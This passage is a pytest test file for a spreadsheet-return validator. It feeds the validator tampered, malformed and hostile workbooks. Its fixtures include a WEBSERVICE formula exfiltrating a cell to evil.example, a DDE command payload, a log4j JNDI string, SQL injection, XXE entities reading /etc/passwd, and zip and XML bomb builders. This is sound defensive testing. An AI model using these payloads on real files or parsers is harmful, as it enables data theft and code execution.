"""The case table: hostile and broken returns, each with the exact outcome it must give.

Every case is a file made from a return issued by the session's workspace (mostly CSC's, with
area 1.4, which CSC alone holds), checked and merged beside a valid Health return
(cases.try_case). Sections:

- tampered plan text, rows and columns changed (already hold);
- values: each rule of "What a return checks" (already hold);
- hostile text, which must be accepted and kept as text (already hold);
- formulas and content outside the table (item 5), Excel error values, a data-table formula,
  review dates in the year 9999 (item 7), the title block above the table (new);
- zip and XML bombs, external entities, encrypted and other non-workbooks (already hold);
- stale, superseded and repeated returns (already hold).
"""

from __future__ import annotations

import shutil
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path

import broken_files as bf
import pytest
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from .cases import (
    Case,
    Expect,
    accepted,
    check,
    refused,
    try_case,
    whole_file,
)
from .conftest import GOOD_HEALTH
from .helpers import (
    EXCEL_CELL_LIMIT,
    LISTS_SHEET,
    MANIFEST_SHEET,
    ROUND,
    ROUND_DATE,
    WS,
    Layout,
    Value,
    col_letter,
    errors_by_file,
    fill,
    good_update,
    inline_str,
    ipt,
    judge,
    layout,
    live_changes,
    load,
    put,
    receipts,
    report_rows,
    resolve,
    rewrite_parts,
    set_cell_xml,
    sheet_part,
)

AREA = "1.4"  # CSC's own area, row 13 of its return
U = good_update("Audit of 30 cases in August: 26 compliant.")
Edit = Callable[[Workbook, Worksheet, Layout], None]


def good_expect() -> Expect:
    return accepted("HEALTH", **{f"1_11__{f}": str(v) for f, v in GOOD_HEALTH.items()})


def ok(**values: str) -> Expect:
    """Accepted, with CSC's area 1.4 merged as `values` (field -> value as merged)."""
    merged = {f: str(v) for f, v in U.items()} | values
    return accepted("CSC", **{f"1_4__{f}": v for f, v in merged.items()})


def csc(
    name: str,
    expect: Expect,
    updates: dict[str, Value] | None = None,
    edit: Edit | None = None,
    *,
    agency: str = "csc",
) -> Case:
    """CSC's return with area 1.4 updated (U, then `updates`), then `edit` applied."""

    def make(ws: WS, folder: Path) -> Path:
        fields = {**U, **(updates or {})}
        return fill(ws.issued(agency), folder / f"{name}.xlsx", {AREA: fields}, edit)

    return Case(name, make, expect)


def cell_of(where: Layout, heading: str, area: str = AREA) -> str:
    return f"{col_letter(where.col(heading))}{where.rows[area]}"


# Cells are named by what a person sees (helpers.resolve): "@Progress" is area 1.4's progress
# cell, "@+1" the cell right of the table in that row, "@title" the title above the table.
PROGRESS, RAG, EVIDENCE, REVIEW = "@Progress", "@RAG", "@Evidence of impact", "@Date of next review"


def _set(sheet_name: str | None, ref: str, value: Value, *, formula: bool = False) -> Edit:
    def edit(wb: Workbook, sheet: Worksheet, where: Layout) -> None:
        target = sheet if sheet_name is None else wb[sheet_name]
        target.protection.sheet = False
        cell = target[resolve(ref, sheet, where, AREA) if sheet_name is None else ref]
        if formula:
            cell.value = value
        else:
            put(cell, value)

    return edit


def _locked(heading: str, value: Value, area: str = AREA) -> Edit:
    def edit(_wb: Workbook, sheet: Worksheet, where: Layout) -> None:
        sheet.protection.sheet = False
        put(where.cell(sheet, area, heading), value)

    return edit


def _rows(fn: Callable[[Worksheet, Layout], None]) -> Edit:
    def edit(_wb: Workbook, sheet: Worksheet, where: Layout) -> None:
        sheet.protection.sheet = False
        fn(sheet, where)

    return edit


def _copy_row(sheet: Worksheet, src: int, dst: int) -> None:
    for col in range(1, sheet.max_column + 1):
        put(sheet.cell(row=dst, column=col), sheet.cell(row=src, column=col).value)


def _swap_rows(a: str, b: str) -> Edit:
    def fn(sheet: Worksheet, where: Layout) -> None:
        ra, rb = where.rows[a], where.rows[b]
        for col in range(1, where.width + 1):
            va = sheet.cell(row=ra, column=col).value
            put(sheet.cell(row=ra, column=col), sheet.cell(row=rb, column=col).value)
            put(sheet.cell(row=rb, column=col), va)

    return _rows(fn)


def _append_area(area_id: str) -> Edit:
    def fn(sheet: Worksheet, where: Layout) -> None:
        _copy_row(sheet, where.rows[AREA], where.last_row + 1)
        put(sheet.cell(row=where.last_row + 1, column=1), area_id)

    return _rows(fn)


def _swap_columns(a: str, b: str) -> Edit:
    def fn(sheet: Worksheet, where: Layout) -> None:
        ca, cb = where.col(a), where.col(b)
        for row in range(where.header_row, where.last_row + 1):
            va = sheet.cell(row=row, column=ca).value
            put(sheet.cell(row=row, column=ca), sheet.cell(row=row, column=cb).value)
            put(sheet.cell(row=row, column=cb), va)

    return _rows(fn)


def _workbook(fn: Callable[[Workbook], None]) -> Edit:
    return lambda wb, _sheet, _where: fn(wb)


def _new_sheet(value: Value, *, formula: bool = False) -> Edit:
    def fn(wb: Workbook) -> None:
        cell = wb.create_sheet("Notes")["B2"]
        if formula:
            cell.value = value
        else:
            put(cell, value)

    return _workbook(fn)


# -- tampered plan text, rows and columns: these already hold -------------------------------------
STRUCTURE: list[Case] = [
    csc(
        "locked-actions-changed",
        refused("locked-text-changed", cell="@Actions"),
        edit=_locked("Actions", "Do nothing at all."),
    ),
    csc(
        "locked-title-changed",
        refused("locked-text-changed", cell="@Area for improvement"),
        edit=_locked("Area for improvement", "Something else"),
    ),
    csc(
        "locked-lead-number",
        refused("locked-text-changed", cell="@Lead"),
        edit=_locked("Lead", 5),
    ),
    csc(
        "locked-shared-with-added",
        refused("locked-text-changed", cell="@Shared with"),
        edit=_locked("Shared with", "Police"),
    ),
    csc(
        "locked-last-progress-changed",
        refused("locked-text-changed", cell="@Progress at last review"),
        edit=_locked("Progress at last review", "Nothing."),
    ),
    csc(
        "locked-last-rag-changed",
        refused("locked-text-changed", cell="@RAG at last review"),
        edit=_locked("RAG at last review", "GREEN"),
    ),
    csc(
        "locked-zero-width-space",
        refused("locked-text-changed", cell="@Desired outcome"),
        edit=lambda wb, s, w: _locked(
            "Desired outcome", "\u200b" + str(w.cell(s, AREA, "Desired outcome").value)
        )(wb, s, w),
    ),
    csc(
        "locked-trailing-newline",
        refused("locked-text-changed", cell="@Assurance measures"),
        edit=lambda wb, s, w: _locked(
            "Assurance measures", str(w.cell(s, AREA, "Assurance measures").value) + "\n"
        )(wb, s, w),
    ),
    csc("locked-id-trailing-space", refused("locked-text-changed"), edit=_locked("ID", AREA + " ")),
    csc(
        "locked-cell-formula",
        refused("formula", cell="@Actions"),
        edit=_set(None, "@Actions", '="Do nothing"', formula=True),
    ),
    csc(
        "id-formula",
        refused("formula", cell="@ID"),
        edit=_set(None, "@ID", '="1.4"', formula=True),
    ),
    csc(
        "row-deleted", refused("row-missing"), edit=_rows(lambda s, w: s.delete_rows(w.rows["1.5"]))
    ),
    csc(
        "row-duplicated",
        refused("row-duplicated"),
        edit=_rows(lambda s, w: _copy_row(s, w.rows[AREA], w.last_row + 1)),
    ),
    csc("rows-swapped", refused("row-order"), edit=_swap_rows("1.4", "1.7")),
    csc("row-of-another-agency", refused("agency-mismatch"), edit=_append_area("1.12")),
    csc("row-with-a-new-id", refused("row-added"), edit=_append_area("9.9")),
    csc(
        "row-below-a-gap",
        refused("row-added"),
        edit=_rows(lambda s, w: _copy_row(s, w.rows[AREA], w.last_row + 2)),
    ),
    csc(
        "empty-row-inserted",
        refused("row-added", "row-missing"),
        edit=_rows(lambda s, w: s.insert_rows(w.rows["1.6"])),
    ),
    csc(
        "column-deleted",
        refused("header-changed"),
        edit=_rows(lambda s, w: s.delete_cols(w.col("evidence"))),
    ),
    csc(
        "column-renamed",
        refused("header-changed"),
        edit=_rows(lambda s, w: put(s.cell(row=w.header_row, column=w.col("rag")), "Rating")),
    ),
    csc("columns-swapped", refused("header-changed"), edit=_swap_columns("progress", "evidence")),
    csc(
        "column-inserted",
        refused("header-changed"),
        edit=_rows(lambda s, w: s.insert_cols(w.col("progress"))),
    ),
    csc(
        "row-inserted-above-header",
        refused("header-changed"),
        edit=_rows(lambda s, w: s.insert_rows(1)),
    ),
    csc(
        "return-sheet-renamed",
        whole_file("not-a-return"),
        edit=lambda _wb, s, _w: setattr(s, "title", "My return"),
    ),
    csc(
        "return-sheet-deleted",
        whole_file("not-a-return"),
        edit=lambda wb, s, _w: (
            (setattr(wb[LISTS_SHEET], "sheet_state", "visible"), wb.remove(s)) and None
        ),
    ),
    csc(
        "manifest-sheet-deleted",
        whole_file("no-manifest"),
        edit=_workbook(lambda wb: wb.remove(wb[MANIFEST_SHEET])),
    ),
    csc(
        "manifest-sheet-renamed",
        whole_file("no-manifest"),
        edit=_workbook(lambda wb: setattr(wb[MANIFEST_SHEET], "title", "manifest")),
    ),
    # Protection, visibility, widths and sheet order carry no meaning: accepted.
    csc(
        "protection-removed",
        ok(),
        edit=_workbook(
            lambda wb: [setattr(s.protection, "sheet", False) for s in wb.worksheets] and None
        ),
    ),
    csc(
        "column-hidden-and-resized",
        ok(),
        edit=_rows(
            lambda s, w: (
                (
                    setattr(s.column_dimensions["D"], "hidden", True),
                    setattr(s.column_dimensions["L"], "width", 90),
                )
                and None
            )
        ),
    ),
    csc("sheets-reordered", ok(), edit=_workbook(lambda wb: wb.move_sheet(wb["Return"], offset=2))),
]

# -- values: every rule ----------------------------------------------------------------------------
VALUES: list[Case] = [
    csc("rag-not-in-scale", refused("rag-in-scale", cell=RAG), {"rag": "PURPLE"}),
    csc("rag-as-formula-text", refused("rag-in-scale", cell=RAG), {"rag": "=RED"}),
    csc("rag-number", refused("rag-in-scale", cell=RAG), {"rag": 3}),
    csc("rag-without-progress", refused("progress-required", cell=PROGRESS), {"progress": None}),
    csc("green-without-evidence", refused("evidence-required", cell=EVIDENCE), {"evidence": "   "}),
    csc(
        "review-date-unreadable",
        refused("review-date-format", cell=REVIEW),
        {"next_review": "banana"},
    ),
    csc(
        "review-date-the-round-month",
        refused("review-date-past", cell=REVIEW),
        {"next_review": "September 2012"},
    ),
    csc(
        "review-date-last-year",
        refused("review-date-past", cell=REVIEW),
        {"next_review": "01/09/2011"},
    ),
    # openpyxl cuts text at 32,767 characters when it saves, so the over-long text is written
    # into the sheet's XML (see TOO_LONG below). Excel counts UTF-16 units: 16,384 emoji are
    # 32,768 of them, one too many, though Python counts 16,384.
    csc(
        "evidence-too-long-in-utf16",
        refused("too-long", cell=EVIDENCE),
        {"evidence": "🙂" * 16_384},
    ),
    csc(
        "progress-formula",
        refused("formula", cell=PROGRESS),
        edit=_set(None, PROGRESS, "=1+1", formula=True),
    ),
    csc(
        "evidence-formula-hyperlink",
        refused("formula", cell=EVIDENCE),
        edit=_set(None, EVIDENCE, '=HYPERLINK("http://evil.example/","Click")', formula=True),
    ),
    csc(
        "rag-formula",
        refused("formula", cell=RAG),
        edit=_set(None, RAG, '=IF(TRUE,"GREEN","RED")', formula=True),
    ),
    csc(
        "progress-exactly-the-limit",
        ok(progress="y" * EXCEL_CELL_LIMIT),
        {"progress": "y" * EXCEL_CELL_LIMIT},
    ),
    csc("rag-lower-case-with-spaces", ok(rag="GREEN"), {"rag": "  green "}),
    csc(
        "review-date-not-required", ok(next_review="Not required"), {"next_review": "Not required"}
    ),
    csc("review-date-excel-serial", ok(next_review="November 2012"), {"next_review": 41214}),
    csc(
        "review-date-real-date",
        ok(next_review="26/10/2012"),
        {"next_review": datetime(2012, 10, 26)},
    ),
    csc(
        "review-date-typed-lower-case",
        ok(next_review="October 2012"),
        {"next_review": "october 2012"},
    ),
    csc("progress-a-number", ok(progress="42"), {"progress": 42}),
    csc("progress-a-date", ok(progress="01/08/2012"), {"progress": date(2012, 8, 1)}),
    csc(
        "progress-crlf-and-trailing-space",
        ok(progress="line one\nline two"),
        {"progress": "line one\r\nline two  \r\n"},
    ),
]

# -- hostile text: accepted, and kept as text ------------------------------------------------------
HOSTILE_TEXTS = {
    "formula-text-equals": '=HYPERLINK("http://evil.example/","Click here")',
    "formula-text-plus": "+SUM(1,2)",
    "formula-text-minus": "-2+3",
    "formula-text-at": "@SUM(A1:A9)",
    "formula-text-dde": "=cmd|' /C calc'!A0",
    "formula-text-tab": "\t=1+1 leading tab",
    "html-script": "<script>alert('x')</script> &amp; <b>bold</b>",
    "sql-injection": "'); DROP TABLE changes; --",
    "log4j": "${jndi:ldap://evil.example/a}",
    "template": "{{7*7}} {% raw %} %s%n",
    "rtl-override": "Invoice \u202egnp.exe",
    "zero-width-and-bidi": "a\u200bb\u200dc\u2066d\u2069",
    "astral-and-cjk": "🙂 𝕏 日本語のテキスト \U0001f9ea",
    "combining-marks": "e\u0301 a\u0308 Z\u0335\u0321\u0334",
    "excel-error-as-text": "#N/A",
    "ooxml-escape-as-text": "_x0041_ is not A",
    "path-traversal": "../../.ipt/key",
    "very-long-word": "W" * 10_000,
}
HOSTILE: list[Case] = [
    csc(f"hostile-{name}", ok(progress=text.rstrip()), {"progress": text})
    for name, text in HOSTILE_TEXTS.items()
]

# -- formulas and content outside the table (item 5), the title block (new) ------------------------
WEBSERVICE = '=WEBSERVICE("http://evil.example/?d="&L13)'
OUTSIDE: list[Case] = [
    csc(
        "formula-in-column-with-no-heading",
        refused("formula", cell="@+1"),
        edit=_set(None, "@+1", WEBSERVICE, formula=True),
    ),
    csc(
        "formula-right-of-the-header",
        refused("formula", cell="@header+1"),
        edit=_set(None, "@header+1", WEBSERVICE, formula=True),
    ),
    csc(
        "formula-in-the-title-block",
        refused("formula", cell="@title"),
        edit=_set(None, "@title", WEBSERVICE, formula=True),
    ),
    csc(
        "formula-below-the-table-far-right",
        refused("formula"),
        edit=_set(None, "AB60", "=1+1", formula=True),
    ),
    csc(
        "formula-on-lists",
        refused("formula"),
        edit=_set(LISTS_SHEET, "A1", '=IF(TRUE,"RED")', formula=True),
    ),
    csc(
        "formula-on-lists-new-cell",
        refused("formula"),
        edit=_set(LISTS_SHEET, "D5", WEBSERVICE, formula=True),
    ),
    csc(
        "formula-on-the-manifest-sheet",
        refused("formula"),
        edit=_set(MANIFEST_SHEET, "B1", WEBSERVICE, formula=True),
    ),
    csc("formula-on-a-new-sheet", refused("formula"), edit=_new_sheet(WEBSERVICE, formula=True)),
    csc(
        "text-in-a-column-with-no-heading",
        refused(),
        edit=_set(None, "@+1", "hidden instructions"),
    ),
    csc("text-far-right", refused(), edit=_set(None, "Z3", "far away")),
    csc("text-in-an-empty-title-cell", refused(), edit=_set(None, "@empty-title", "note")),
    csc("text-on-lists-new-cell", refused(), edit=_set(LISTS_SHEET, "D5", "hello")),
    csc("text-on-the-manifest-sheet", refused(), edit=_set(MANIFEST_SHEET, "C3", "hello")),
    csc("number-below-the-manifest", refused(), edit=_set(MANIFEST_SHEET, "A10", 42)),
    csc("text-on-a-new-sheet", refused(), edit=_new_sheet("our own notes")),
    csc("lists-dropdown-value-changed", refused(), edit=_set(LISTS_SHEET, "A1", "PURPLE")),
    # New (not in items 1-8): the title block above the table is locked, yet any edit of it
    # passes. The README says every locked cell must hold what was sent.
    csc("title-block-text-changed", refused(), edit=_set(None, "@title", "A different agency")),
    # The sign-off (issue 14): its four cells are expected content, and nothing around them.
    csc(
        "formula-in-a-sign-off-cell",
        refused("formula", cell="L4"),
        edit=_set(None, "L4", WEBSERVICE, formula=True),
    ),
    csc(
        "text-beside-the-sign-off",
        refused("content-outside-table", cell="M4"),
        edit=_set(None, "M4", "acting up"),
    ),
    csc(
        "sign-off-label-changed", refused("title-changed", cell="K5"), edit=_set(None, "K5", "Job")
    ),
    csc(
        "sign-off-pasted-no",
        refused("sign-off-not-confirmed", cell="L7"),
        edit=_set(None, "L7", "No"),
    ),
    csc("sign-off-cleared", refused("sign-off-missing", cell="L4"), edit=_set(None, "L4", "")),
    csc(
        "sign-off-dated-years-ahead",
        refused("sign-off-date", cell="L6"),
        edit=_set(None, "L6", datetime(2999, 1, 1)),
    ),
    csc(
        "sign-off-date-pasted-as-text",
        accepted(),
        edit=_set(None, "L6", f"{date.today():%d/%m/%Y}"),
    ),
    csc(
        "what-to-fix-sheet-on-a-return-never-sent-back",
        refused("sheet-added"),
        edit=_workbook(lambda wb: put(wb.create_sheet("What to fix")["A1"], "What to fix")),
    ),
]


def address(path: Path, ref: str) -> str:
    """The address of a cell named like "@Progress" on a return (helpers.resolve)."""
    wb = load(path)
    sheet = wb["Return"]
    return resolve(ref, sheet, layout(sheet), AREA)


def _xml_cell(ref: str, xml: str) -> Callable[[WS, Path, str], Path]:
    """A CSC return with one cell of its Return sheet rewritten in the XML (`xml` names the
    cell as `ref` does; both are turned into its address)."""

    def make(ws: WS, folder: Path, name: str) -> Path:
        base = fill(ws.issued("csc"), folder / f"{name}-base.xlsx", {AREA: dict(U)})
        part = sheet_part(base, "Return")
        at = address(base, ref)
        cell = xml.replace(f'r="{ref}"', f'r="{at}"').replace(f'ref="{ref}"', f'ref="{at}"')
        return rewrite_parts(
            base, folder / f"{name}.xlsx", {part: lambda x: set_cell_xml(x, at, cell)}
        )

    return make


def xml_case(name: str, expect: Expect, make: Callable[[WS, Path, str], Path]) -> Case:
    return Case(name, lambda ws, folder: make(ws, folder, name), expect)


DATA_TABLE = (
    f'<c r="{PROGRESS}"><f t="dataTable" ref="{PROGRESS}" dt2D="0" dtr="0" r1="A1"/><v>0</v></c>'
)


# -- item 7: Excel error values, a data-table formula, the year 9999 -------------------------------
ITEM7: list[Case] = [
    xml_case(
        "error-value-in-progress",
        refused(cell=PROGRESS),
        _xml_cell(PROGRESS, f'<c r="{PROGRESS}" t="e"><v>#N/A</v></c>'),
    ),
    xml_case(
        "error-value-in-rag",
        refused(cell=RAG),
        _xml_cell(RAG, f'<c r="{RAG}" t="e"><v>#DIV/0!</v></c>'),
    ),
    xml_case(
        "error-value-in-review-date",
        refused(cell=REVIEW),
        _xml_cell(REVIEW, f'<c r="{REVIEW}" t="e"><v>#REF!</v></c>'),
    ),
    xml_case(
        "data-table-formula",
        refused("formula", cell=PROGRESS),
        _xml_cell(PROGRESS, DATA_TABLE),
    ),
    xml_case(
        "array-formula",
        refused("formula", cell=PROGRESS),
        _xml_cell(
            PROGRESS, f'<c r="{PROGRESS}"><f t="array" ref="{PROGRESS}">SUM(A1:A2)</f><v>0</v></c>'
        ),
    ),
    xml_case(
        "shared-formula",
        refused("formula", cell=PROGRESS),
        _xml_cell(
            PROGRESS, f'<c r="{PROGRESS}"><f t="shared" ref="{PROGRESS}" si="0">A1</f><v>0</v></c>'
        ),
    ),
    xml_case(
        "ooxml-escaped-text",
        ok(progress="_x0041_ typed"),
        _xml_cell(PROGRESS, inline_str(PROGRESS, "_x0041_ typed")),
    ),
    csc(
        "review-date-9999-real-date", refused(cell=REVIEW), {"next_review": datetime(9999, 12, 31)}
    ),
    csc("review-date-9999-typed-date", refused(cell=REVIEW), {"next_review": "31/12/9999"}),
    csc("review-date-9999-month", refused(cell=REVIEW), {"next_review": "December 9999"}),
]


# -- bombs, external entities, encrypted and other non-workbooks: these already hold ---------------
def _bf(name: str, fn: Callable[[Path, Path], Path]) -> Callable[[WS, Path], Path]:
    """A broken_files maker run on a valid CSC return, in a folder of its own, renamed."""

    def make(ws: WS, folder: Path) -> Path:
        own = folder / name
        own.mkdir()
        base = own / "valid-return.xlsx"  # as issued (by xlsxwriter): valid, with no update
        shutil.copy(ws.issued("csc"), base)
        made = fn(own, base)
        return made.rename(folder / f"{name}{made.suffix}")

    return make


def _doctype(
    part: str, doctype: str, body: Callable[[str, Path], str] = lambda x, _base: x
) -> Callable[[Path, Path], Path]:
    """Insert a DOCTYPE after the XML declaration of `part` (and change its body)."""

    def make(own: Path, base: Path) -> Path:
        def add(xml: bytes) -> bytes:
            text = xml.decode("utf-8")
            if text.startswith("<?xml"):
                end = text.index("?>") + 2
                return (text[:end] + doctype + body(text[end:], base)).encode()
            return (doctype + body(text, base)).encode()

        target = part if part != "RETURN" else sheet_part(base, "Return")
        return rewrite_parts(base, own / "doctype.xlsx", {target: add})

    return make


XXE = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XXE_PARAM = '<!DOCTYPE worksheet [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>'
EXTERNAL_DTD = '<!DOCTYPE Types SYSTEM "http://evil.example/types.dtd">'


def _entity_in_cell(text: str, base: Path) -> str:
    """The external entity used as the text of area 1.4's progress cell."""
    at = address(base, PROGRESS)
    cell = f'<c r="{at}" t="inlineStr"><is><t>&xxe;</t></is></c>'
    return set_cell_xml(text.encode(), at, cell).decode()


def _vba(own: Path, base: Path) -> Path:
    """A valid return with a VBA project added and the macro-enabled content type."""

    def types(xml: bytes) -> bytes:
        return xml.replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        )

    return rewrite_parts(
        base,
        own / "with-macros.xlsx",
        {"[Content_Types].xml": types},
        add={"xl/vbaProject.bin": bf.CFB_SIGNATURE + bytes(504)},
    )


def _many_parts(own: Path, base: Path) -> Path:
    return rewrite_parts(
        base,
        own / "many.xlsx",
        add={f"xl/media/p{i}.bin": b"" for i in range(10_001)},
        compression=zipfile.ZIP_STORED,
    )


BOMBS: list[Case] = [
    Case(
        "zip-bomb-300MB-part",
        _bf("zip-bomb-300MB-part", lambda own, base: bf.make_zip_bomb(own, base)),
        whole_file("zip-bomb"),
    ),
    Case(
        "zip-bomb-lying-sizes",
        _bf("zip-bomb-lying-sizes", lambda own, base: bf.make_lying_sizes(own, base)),
        whole_file("zip-bomb"),
    ),
    Case("zip-10001-parts", _bf("zip-10001-parts", _many_parts), whole_file("zip-bomb")),
    Case(
        "xml-bomb-workbook",
        _bf("xml-bomb-workbook", lambda own, base: bf.make_xml_bomb(own, base)),
        whole_file("xml-bomb"),
    ),
    Case(
        "xml-bomb-utf16",
        _bf("xml-bomb-utf16", lambda own, base: bf.make_xml_bomb(own, base, encoding="utf-16")),
        whole_file("xml-bomb"),
    ),
    Case(
        "xml-bomb-return-sheet",
        _bf(
            "xml-bomb-return-sheet",
            lambda own, base: bf.make_xml_bomb(own, base, part=sheet_part(base, "Return")),
        ),
        whole_file("xml-bomb"),
    ),
    Case(
        "xxe-file-entity-in-a-cell",
        _bf("xxe-file-entity-in-a-cell", _doctype("RETURN", XXE, _entity_in_cell)),
        whole_file("xml-bomb"),
    ),
    Case(
        "xxe-parameter-entity",
        _bf("xxe-parameter-entity", _doctype("RETURN", XXE_PARAM)),
        whole_file("xml-bomb"),
    ),
    Case(
        "external-dtd-in-content-types",
        _bf("external-dtd-in-content-types", _doctype("[Content_Types].xml", EXTERNAL_DTD)),
        whole_file("xml-bomb"),
    ),
    Case(
        "doctype-across-read-chunks",
        _bf(
            "doctype-across-read-chunks", lambda own, base: bf.make_doctype_across_chunks(own, base)
        ),
        whole_file("xml-bomb"),
    ),
    Case(
        "encrypted",
        _bf("encrypted", lambda own, _b: bf.make_encrypted(own)),
        whole_file("encrypted"),
    ),
    Case(
        "encrypted-damaged-directory",
        _bf(
            "encrypted-damaged-directory",
            lambda own, _b: bf.make_encrypted(own, damaged_directory=True),
        ),
        whole_file("encrypted"),
    ),
    Case(
        "rights-managed",
        _bf("rights-managed", lambda own, _b: bf.make_rights_managed(own)),
        whole_file("encrypted"),
    ),
    Case("xls", _bf("xls", lambda own, _b: bf.make_xls(own)), whole_file("xls")),
    Case("macros-added", _bf("macros-added", _vba), whole_file("macro")),
    Case(
        "truncated",
        _bf("truncated", lambda own, base: bf.make_truncated(own, base)),
        whole_file("corrupt-zip"),
    ),
    Case(
        "bad-crc",
        _bf("bad-crc", lambda own, base: bf.make_crc_error(own, base)),
        whole_file("corrupt-zip"),
    ),
    Case(
        "strict-ooxml",
        _bf("strict-ooxml", lambda own, base: bf.make_strict(own, base)),
        whole_file("strict-ooxml"),
    ),
    Case("empty-file", _bf("empty-file", lambda own, _b: bf.make_empty(own)), whole_file("empty")),
    Case(
        "csv-named-xlsx",
        _bf("csv-named-xlsx", lambda own, _b: bf.make_csv(own)),
        whole_file("not-zip"),
    ),
    Case("pdf", _bf("pdf", lambda own, _b: bf.make_pdf(own)), whole_file("not-zip")),
    Case(
        "word-document",
        _bf("word-document", lambda own, _b: bf.make_docx_like(own)),
        whole_file("not-workbook"),
    ),
    Case("ods", _bf("ods", lambda own, _b: bf.make_ods_like(own)), whole_file("not-workbook")),
    Case(
        "xlsb",
        _bf("xlsb", lambda own, _b: bf.make_xlsb_like(own)),
        whole_file("not-workbook", "macro"),
    ),
    Case(
        "plain-zip",
        _bf("plain-zip", lambda own, _b: bf.make_plain_zip(own)),
        whole_file("not-workbook"),
    ),
    Case(
        "random-bytes",
        _bf("random-bytes", lambda own, _b: bf.make_not_zip(own)),
        whole_file("not-zip"),
    ),
    Case("missing-file", lambda _ws, folder: folder / "never-saved.xlsx", whole_file("missing")),
]

TOO_LONG: list[Case] = [
    xml_case(
        "progress-too-long",
        refused("too-long", cell=PROGRESS),
        _xml_cell(PROGRESS, inline_str(PROGRESS, "x" * (EXCEL_CELL_LIMIT + 1))),
    ),
    xml_case(
        "evidence-too-long-by-far",
        refused("too-long", cell=EVIDENCE),
        _xml_cell(EVIDENCE, inline_str(EVIDENCE, "y" * 200_000)),
    ),
]

ALL = STRUCTURE + VALUES + TOO_LONG + HOSTILE + OUTSIDE + ITEM7 + BOMBS


@pytest.mark.parametrize("case", ALL, ids=str)
def test_case(ws: WS, good: Path, case: Case) -> None:
    try_case(ws, good, good_expect(), case)


# -- a few outcomes that need more than the table --------------------------------------------------
def test_a_data_table_formula_is_reported_in_words(ws: WS) -> None:
    """Item 7: the message names the formula the way a person would, never a Python object."""
    folder = ws.root.parent / "cases"
    folder.mkdir()
    bad = _xml_cell(PROGRESS, DATA_TABLE)(ws, folder, "data-table")
    out = check(ws, [bad])
    rows = out.errors.get(bad.name, [])
    text = " ".join(f"{r['Value found']} {r['What to do']}" for r in rows) + out.run.output
    right = bool(rows) and "object at 0x" not in text and "openpyxl" not in text
    judge(out.run, refused=True, right=right)
    assert rows, out.run.describe()
    assert "object at 0x" not in text and "openpyxl" not in text, text


def test_hostile_text_stays_text_in_the_master_and_the_circulation_copy(ws: WS) -> None:
    """Text that looks like a formula is merged as text: no new formula anywhere in the
    master or the circulation copy, and the cells hold the text exactly."""
    texts = [t for n, t in HOSTILE_TEXTS.items() if n.startswith("formula-text")]
    areas = ["1.4", "1.5", "1.6", "1.7", "1.8", "1.9"][: len(texts)]
    ret = fill(
        ws.issued("csc"),
        ws.inbox / "formula-texts.xlsx",
        {a: {"progress": t} for a, t in zip(areas, texts, strict=True)},
    )

    def formulas(path: Path) -> set[str]:
        wb = load(path)
        return {
            str(c.value)
            for s in wb.worksheets
            for row in s.iter_rows()
            for c in row
            if c.data_type == "f"
        }

    before = formulas(ws.master)
    run = ws.merge(ret)
    assert run.code == 0, run.describe()
    circulation = ws.outside / "circulation.xlsx"
    assert ipt("circulate", "--out", circulation, "-w", ws.root).code == 0
    for path in (ws.master, circulation):
        assert formulas(path) <= before, f"{path.name}: new formulas {formulas(path) - before}"
        wb = load(path)
        plan = wb["Plan"]
        ids = {str(plan.cell(row=r, column=1).value): r for r in range(2, plan.max_row + 1)}
        heads = {str(c.value): c.column for c in plan[1]}
        for area, text in zip(areas, texts, strict=True):
            cell = plan.cell(row=ids[area], column=heads["Progress"])
            assert cell.data_type == "s" and cell.value == text.rstrip(), (
                path.name,
                area,
                cell.value,
            )


# -- stale, superseded and repeated returns: these already hold ------------------------------------
def test_a_superseded_return_is_refused_and_the_new_one_merges(ws: WS, good: Path) -> None:
    old = fill(ws.issued("csc"), ws.inbox / "csc-first-issue.xlsx", {AREA: dict(U)})
    run = ipt("issue", "--round", ROUND, "--date", ROUND_DATE, "--agency", "CSC", "-w", ws.root)
    assert run.code == 0, run.describe()
    try_case(
        ws, good, good_expect(), Case("superseded", lambda _ws, _f: old, whole_file("superseded"))
    )
    new = fill(ws.issued("csc"), ws.inbox / "csc-second-issue.xlsx", {AREA: dict(U)})
    run = ws.merge(new)
    assert run.code == 0, run.describe()
    assert [r["outcome"] for r in receipts(ws) if r["file_name"] == new.name] == ["merged"]


def test_a_return_of_an_earlier_round_is_stale(ws: WS) -> None:
    old = fill(ws.issued("csc"), ws.inbox / "csc-third-review.xlsx", {AREA: dict(U)})
    run = ipt(
        "issue", "--round", "Fourth review of progress", "--date", "2012-12-12", "-w", ws.root
    )
    assert run.code == 0, run.describe()
    fourth = ws.root / "returns" / "fourth-review-of-progress"
    good = fill(
        fourth / "health.xlsx",
        ws.inbox / "health-fourth-review.xlsx",
        {"1.11": {"progress": "Fourth round."}},
    )
    expect = accepted("HEALTH", **{"1_11__progress": "Fourth round."})
    try_case(ws, good, expect, Case("stale-round", lambda _ws, _f: old, whole_file("stale-round")))


def test_the_same_file_twice_is_unchanged_and_a_second_return_supersedes_the_first(ws: WS) -> None:
    first = fill(ws.issued("csc"), ws.inbox / "csc-first.xlsx", {AREA: dict(U)})
    assert ws.merge(first).code == 0
    again = ws.inbox / "csc-first-again.xlsx"
    shutil.copy(first, again)
    run = ws.merge(again)
    outcomes = [r["outcome"] for r in receipts(ws)]
    right = run.code == 0 and outcomes == ["merged", "unchanged"]
    judge(run, refused=False, right=right)
    assert right, (run.describe(), outcomes)
    second = fill(
        ws.issued("csc"), ws.inbox / "csc-second.xlsx", {AREA: {**U, "progress": "Revised."}}
    )
    assert ws.merge(second).code == 0
    progress = [c for c in live_changes(ws) if c["area_id"] == AREA and c["field"] == "progress"]
    assert [c["new"] for c in progress] == ["Revised."]


def test_a_folder_among_the_files_is_one_row(ws: WS, good: Path) -> None:
    """Item 7: a folder given as a return is one problem row, like a missing file; the batch
    goes on (today: a usage error, exit 2, and nothing checked or merged)."""
    folder = ws.inbox / "a-folder.xlsx"
    folder.mkdir()
    try_case(
        ws,
        good,
        good_expect(),
        Case("folder", lambda _ws, _f: folder, whole_file("not-a-file", "missing")),
    )


def test_a_file_given_twice_in_one_batch_is_merged_once(ws: WS) -> None:
